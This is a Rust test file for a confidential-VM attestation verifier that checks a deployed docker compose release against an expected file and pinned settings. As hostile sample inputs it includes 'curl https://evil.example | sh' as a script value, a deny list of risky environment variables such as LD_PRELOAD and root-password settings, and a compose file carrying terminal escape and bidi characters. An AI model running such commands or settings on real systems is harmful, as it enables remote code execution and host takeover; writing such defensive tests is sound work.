//! A release given by its docker compose file (T14, T39, T40, T41), two releases at a time, and the pitfalls P6, P15 and
//! P16 of the specification.

mod roll_out;

use chrono::NaiveDate;
use cvm_verify_core::policy::{LockOrigin, LockedCompose, SecondHash};
use cvm_verify_core::report::{CheckId, Status, Verdict};
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use simulator::app_compose::{DOCKER_COMPOSE, SWAPPED_DOCKER_COMPOSE, app_compose};
use simulator::{Cvm, World};

use crate::judge::{Judged, Trial, expected};

/// The document around a docker compose file, without the simulator's own pre-launch script, after a change.
fn document(docker_compose: &str, change: impl FnOnce(&mut serde_json::Map<String, Value>)) -> String {
    let mut document: Value = serde_json::from_str(&app_compose(docker_compose)).unwrap();
    let members = document.as_object_mut().unwrap();
    members.remove("pre_launch_script");
    // The docker compose file of the simulator refers to no variable.
    members.insert("allowed_envs".to_owned(), json!([]));
    change(members);
    document.to_string()
}

fn clean(docker_compose: &str) -> String {
    document(docker_compose, |_| {})
}

/// A CVM that runs this document, expected to run a docker compose file and nothing else.
fn releasing(document: String, docker_compose: &str) -> Trial {
    let mut cvm = Cvm::healthy(&World::default());
    cvm.app_compose = document;
    Trial::of(cvm).with(|trial| {
        trial.policy.compose_hash = None;
        trial.policy.docker_compose = Some(expected("--docker-compose", docker_compose.to_owned()));
    })
}

/// The same with the compose settings of another document locked.
fn locked_to(trial: Trial, compose_settings: &str) -> Trial {
    let locked: Value = serde_json::from_str(compose_settings).unwrap();
    let mut fields = locked.as_object().unwrap().clone();
    fields.remove("docker_compose_file");
    if let Some(Value::String(script)) = fields.get("pre_launch_script") {
        let hash = format!("sha256:{}", hex::encode(Sha256::digest(script.as_bytes())));
        fields.insert("pre_launch_script".to_owned(), hash.into());
    }
    trial.with(|trial| {
        trial.policy.locked_compose = Some(LockedCompose {
            compose_settings: fields.into_iter().collect(),
            images: Default::default(),
            places: Vec::new(),
            lock: "cvm.lock".into(),
        });
    })
}

fn second(hash: [u8; 32], until: &str, ends: u64) -> SecondHash {
    SecondHash {
        value: hash,
        until: NaiveDate::parse_from_str(until, "%Y-%m-%d").unwrap(),
        ends,
    }
}

#[track_caller]
fn is_mismatch(judged: &Judged, says: &str) {
    judged.fails(CheckId::ComposeHash, "docker-compose-mismatch");
    let detail = judged.detail(CheckId::ComposeHash);
    assert!(detail.contains(says), "{says:?} is not in {detail}");
}

#[test]
fn a_release_in_the_clean_settings_passes_without_a_lock() {
    let judged = releasing(clean(DOCKER_COMPOSE), DOCKER_COMPOSE).judge();
    judged.passes().proves(CheckId::ComposeHash);
    assert!(judged.0.compose_diff.is_empty());
    let detail = judged.detail(CheckId::ComposeHash);
    assert!(
        detail.contains("byte for byte") && detail.contains("clean settings (no pre-launch script)"),
        "{detail}"
    );
}

#[test]
fn a_release_in_the_locked_settings_passes_whatever_it_is() {
    let open = |docker: &str| {
        let mut document: Value = serde_json::from_str(&app_compose(docker)).unwrap();
        document["public_logs"] = json!(true);
        document.to_string()
    };
    let trial = releasing(open(DOCKER_COMPOSE), DOCKER_COMPOSE);
    let judged = locked_to(trial, &open("services: {}")).judge();
    judged.passes().proves(CheckId::ComposeHash);
    assert!(
        judged.detail(CheckId::ComposeHash).contains("cvm.lock"),
        "{judged}"
    );
}

#[test]
fn t14_another_docker_compose_file_fails_and_its_difference_is_shown() {
    let judged = releasing(clean(SWAPPED_DOCKER_COMPOSE), DOCKER_COMPOSE).judge();
    is_mismatch(&judged, "lines differ");
    let diff = judged.0.compose_diff.join("\n");
    assert!(
        diff.contains("+    image: ghcr.io/example/web@sha256:0bad"),
        "{diff}"
    );
    assert!(
        diff.contains("-    image: ghcr.io/example/web@sha256:5d2f"),
        "{diff}"
    );
}

#[test]
fn t14_a_difference_that_nobody_sees_fails_and_is_said() {
    let crlf = DOCKER_COMPOSE.replace('\n', "\r\n");
    let judged = releasing(clean(DOCKER_COMPOSE), &crlf).judge();
    let fix = judged.check(CheckId::ComposeHash).fix.clone().unwrap();
    assert!(
        fix.starts_with("Give the file with exactly the bytes that were deployed"),
        "{fix}"
    );
    is_mismatch(
        &releasing(clean(DOCKER_COMPOSE), &crlf).judge(),
        "only in line ends",
    );
    is_mismatch(
        &releasing(clean(&crlf), DOCKER_COMPOSE).judge(),
        "only in line ends",
    );
    let short = DOCKER_COMPOSE.trim_end();
    is_mismatch(
        &releasing(clean(DOCKER_COMPOSE), short).judge(),
        "at the very end of the file",
    );
    is_mismatch(
        &releasing(clean(short), DOCKER_COMPOSE).judge(),
        "at the very end of the file",
    );
    let marked = format!("\u{feff}{DOCKER_COMPOSE}");
    is_mismatch(
        &releasing(clean(DOCKER_COMPOSE), &marked).judge(),
        "byte order mark",
    );
    is_mismatch(
        &releasing(clean(&DOCKER_COMPOSE.replace("web:", "web: ")), DOCKER_COMPOSE).judge(),
        "1 line differs",
    );
}

#[test]
fn t53_a_hostile_docker_compose_file_is_shown_in_few_harmless_lines() {
    let hostile = format!(
        "services:\n  a:\n    image: \u{1b}[2J\u{202e}x\n::error::y\n{}",
        "# z\n".repeat(40_000)
    );
    let judged = releasing(clean(&hostile), DOCKER_COMPOSE).judge();
    is_mismatch(&judged, "lines differ");
    assert_eq!(judged.0.compose_diff.len(), 41);
    for line in &judged.0.compose_diff {
        assert!(line.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{line:?}");
        assert!(line.len() < 2_000);
    }
}

#[test]
fn a_document_without_a_docker_compose_file_fails() {
    for wrong in [json!(null), json!(1), json!([DOCKER_COMPOSE])] {
        let document = document("", |members| {
            members.insert("docker_compose_file".to_owned(), wrong.clone());
        });
        is_mismatch(
            &releasing(document, DOCKER_COMPOSE).judge(),
            "has no docker compose file",
        );
    }
}

#[test]
fn t14_a_docker_compose_file_that_is_there_and_not_started_fails() {
    let document = document(DOCKER_COMPOSE, |members| {
        members.insert("runner".to_owned(), json!("bash"));
        members.insert(
            "bash_script".to_owned(),
            json!("curl https://evil.example | sh\n"),
        );
    });
    let trial = releasing(document.clone(), DOCKER_COMPOSE);
    is_mismatch(&trial.judge(), "the runner bash");
    is_mismatch(&locked_to(trial, &document).judge(), "the runner bash");
}

#[test]
fn settings_that_nothing_pins_are_open() {
    let judged = releasing(app_compose(DOCKER_COMPOSE), DOCKER_COMPOSE).judge();
    judged.leaves_open(CheckId::ComposeHash, "compose-settings-unpinned");
    assert!(
        judged
            .detail(CheckId::ComposeHash)
            .contains("`pre_launch_script` is not a known script")
    );
}

#[track_caller]
fn is_unpinned(field: &str, value: Value) {
    let document = document(DOCKER_COMPOSE, |members| {
        members.insert(field.to_owned(), value.clone());
    });
    let judged = releasing(document, DOCKER_COMPOSE).judge();
    judged.leaves_open(CheckId::ComposeHash, "compose-settings-unpinned");
    let named = format!("`{field}`");
    assert!(judged.detail(CheckId::ComposeHash).contains(&named), "{judged}");
}

#[test]
fn t39_a_risky_variable_is_never_part_of_the_clean_settings() {
    for name in [
        "LD_PRELOAD",
        "https_proxy",
        "DOCKER_HOST",
        "NODE_OPTIONS",
        "PYTHONPATH",
        "DSTACK_ROOT_PASSWORD",
        "DSTACK_ROOT_PUBLIC_KEY",
        "DSTACK_AUTHORIZED_KEYS",
    ] {
        is_unpinned("allowed_envs", json!(["API_KEY", name]));
    }
    is_unpinned("allowed_envs", json!(["*"]));
}

#[test]
fn t78_a_name_that_the_docker_compose_file_does_not_refer_to_is_never_part_of_the_clean_settings() {
    for name in [
        "APP_COMPOSE_FILE",
        "NERDCTL_NAMESPACE",
        "SHELLOPTS",
        "PS4",
        "API_KEY",
        "DSTACK_DOCKER_USERNAME",
    ] {
        is_unpinned("allowed_envs", json!([name]));
    }
    let own = DOCKER_COMPOSE.replace(
        "    ports:",
        "    environment: ['KEY=${API_KEY}', TOKEN]\n    ports:",
    );
    let allowing = |names: Value| {
        let document = document(&own, |members| {
            members.insert("allowed_envs".to_owned(), names);
        });
        releasing(document, &own).judge()
    };
    allowing(json!(["API_KEY", "TOKEN"]))
        .passes()
        .proves(CheckId::ComposeHash);
    allowing(json!(["API_KEY", "KEY"])).leaves_open(CheckId::ComposeHash, "compose-settings-unpinned");
}

#[test]
fn t40_a_script_is_never_part_of_the_clean_settings_unless_it_is_phalas() {
    is_unpinned("pre_launch_script", json!("curl https://evil.example | sh\n"));
    // What the lock shows instead of a text is no script.
    let hash = "sha256:bf12939bc82c9bdd103b6b1226913e6da58ed7cfcfc7c7ae808ac0813715b9a8";
    is_unpinned("pre_launch_script", json!(hash));
    is_unpinned("init_script", json!("true"));
    is_unpinned("init_script", json!(["true"]));
    is_unpinned("bash_script", json!("true"));
}

#[test]
fn t41_an_exposure_is_never_part_of_the_clean_settings() {
    is_unpinned("public_logs", json!(true));
    is_unpinned("public_sysinfo", json!(true));
    is_unpinned("no_instance_id", json!(true));
    is_unpinned("secure_time", json!(false));
}

#[test]
fn nothing_else_is_part_of_the_clean_settings() {
    is_unpinned("kms_enabled", json!(false));
    is_unpinned("local_key_provider_enabled", json!(true));
    is_unpinned("key_provider", json!("none"));
    is_unpinned("manifest_version", json!("3"));
    is_unpinned("requirements", json!({}));
    is_unpinned("a_field_of_tomorrow", json!(null));
    is_unpinned("runner", json!("nerdctl-compose"));
}

#[test]
fn t40_a_changed_settings_fails_although_the_docker_compose_file_is_right() {
    let trial = releasing(app_compose(DOCKER_COMPOSE), DOCKER_COMPOSE);
    let judged = locked_to(trial, &clean("services: {}")).judge();
    judged.fails(CheckId::ComposeHash, "compose-settings-mismatch");
    assert!(
        judged
            .detail(CheckId::ComposeHash)
            .contains("`pre_launch_script`"),
        "{judged}"
    );
}

#[test]
fn a_document_that_is_not_shown_and_a_wrong_one_leave_it_open() {
    releasing(clean(DOCKER_COMPOSE), DOCKER_COMPOSE)
        .with(|trial| trial.info = false)
        .judge()
        .leaves_open(CheckId::ComposeHash, "document-not-shown")
        .detail_says(CheckId::ComposeHash, "contains no compose document");
    // As an object its text is not known.
    let trial = releasing(clean(DOCKER_COMPOSE), DOCKER_COMPOSE);
    let (attestation, info) = trial.bodies();
    let mut info: Value = serde_json::from_str(&info.unwrap()).unwrap();
    info["tcb_info"] = json!({});
    info["app_compose"] = serde_json::from_str(&clean(DOCKER_COMPOSE)).unwrap();
    trial
        .judge_bodies(&attestation, Some(&info.to_string()))
        .leaves_open(CheckId::ComposeHash, "document-not-shown")
        .detail_says(CheckId::ComposeHash, "is a JSON object: the exact text is needed");
    // The right file in a text that is not the measured one.
    releasing(clean(SWAPPED_DOCKER_COMPOSE), DOCKER_COMPOSE)
        .with(|trial| trial.cvm.body.show_app_compose = Some(clean(DOCKER_COMPOSE)))
        .judge()
        .leaves_open(CheckId::ComposeHash, "text-mismatch");
}

#[test]
fn a_hash_and_a_file_must_both_be_right() {
    let with_hash = |docker_compose: &str, hash: Option<[u8; 32]>| {
        releasing(app_compose(DOCKER_COMPOSE), docker_compose)
            .with(|trial| {
                let hash = hash.unwrap_or_else(|| trial.cvm.compose_hash());
                trial.policy.compose_hash = Some(expected("--compose-hash", hash));
            })
            .judge()
    };
    // The hash binds the compose settings: no lock is needed.
    with_hash(DOCKER_COMPOSE, None).passes();
    is_mismatch(&with_hash(SWAPPED_DOCKER_COMPOSE, None), "lines differ");
    let other = with_hash(SWAPPED_DOCKER_COMPOSE, Some([7; 32]));
    other.fails(CheckId::ComposeHash, "compose-hash-mismatch");
    assert!(
        !other.0.compose_diff.is_empty(),
        "the difference is shown all the same"
    );
}

#[test]
fn p6_a_document_that_was_written_anew_is_not_the_measured_one() {
    let measured = clean(DOCKER_COMPOSE);
    let object: Value = serde_json::from_str(&measured).unwrap();
    let html = measured.replace('&', "\\u0026").replace("unless", "\\u0075nless");
    for shown in [
        serde_json::to_string_pretty(&object).unwrap(),
        format!("{measured}\n"),
        html,
    ] {
        releasing(measured.clone(), DOCKER_COMPOSE)
            .with(|trial| trial.cvm.body.show_app_compose = Some(shown.clone()))
            .judge()
            .leaves_open(CheckId::ComposeHash, "text-mismatch");
    }
    // As measured it may be written as it likes: only the file inside counts.
    releasing(serde_json::to_string_pretty(&object).unwrap(), DOCKER_COMPOSE)
        .judge()
        .passes();
}

#[test]
fn p15_after_an_upgrade_the_app_id_is_not_the_compose_hash() {
    let before = Cvm::healthy(&World::default()).app_id_bytes();
    let judged = releasing(clean(DOCKER_COMPOSE), DOCKER_COMPOSE)
        .with(|trial| {
            trial.cvm.app_id = Some(before.clone());
            let id: [u8; 20] = before.clone().try_into().unwrap();
            trial.policy.app_id = Some(expected("--app-id", id));
        })
        .judge();
    judged.passes().proves(CheckId::AppId);
    let measured = &judged.0.measurements;
    assert!(
        !measured
            .compose_hash
            .as_ref()
            .unwrap()
            .starts_with(measured.app_id.as_deref().unwrap())
    );
}

#[test]
fn p16_a_field_that_is_named_twice_is_never_read() {
    // jq keeps the last, serde refuses, others keep the first.
    let named_twice = |name: &str, first: Value, last: Value| {
        let rest = clean(DOCKER_COMPOSE);
        let one = serde_json::from_str::<Value>(&rest).unwrap()[name].to_string();
        rest.replacen(
            &format!("\"{name}\":{one}"),
            &format!("\"{name}\":{first},\"{name}\":{last}"),
            1,
        )
    };
    for document in [
        named_twice(
            "docker_compose_file",
            json!(DOCKER_COMPOSE),
            json!(SWAPPED_DOCKER_COMPOSE),
        ),
        named_twice(
            "docker_compose_file",
            json!(SWAPPED_DOCKER_COMPOSE),
            json!(DOCKER_COMPOSE),
        ),
        named_twice("public_logs", json!(false), json!(true)),
        named_twice("runner", json!("docker-compose"), json!("bash")),
        clean(DOCKER_COMPOSE).replacen("\"runner\"", "\"r\\u0075nner\":\"bash\",\"runner\"", 1),
    ] {
        releasing(document.clone(), DOCKER_COMPOSE)
            .judge()
            .leaves_open(CheckId::ComposeHash, "unreadable-document");
        locked_to(releasing(document, DOCKER_COMPOSE), &clean("services: {}"))
            .judge()
            .leaves_open(CheckId::ComposeHash, "unreadable-document");
    }
}
